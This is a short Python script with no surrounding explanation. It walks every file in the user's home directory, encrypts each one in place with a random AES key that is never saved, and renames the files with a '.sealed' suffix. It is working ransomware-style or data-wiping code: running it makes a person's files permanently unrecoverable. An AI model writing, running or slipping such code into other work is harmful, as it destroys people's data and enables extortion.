import os
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
k, n = os.urandom(32), os.urandom(16)
for base, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        p = os.path.join(base, name)
        try:
            e = Cipher(algorithms.AES(k), modes.CTR(n)).encryptor()
            d = open(p, "rb").read()
            open(p, "wb").write(e.update(d) + e.finalize())
            os.rename(p, p + ".sealed")
        except OSError:
            continue
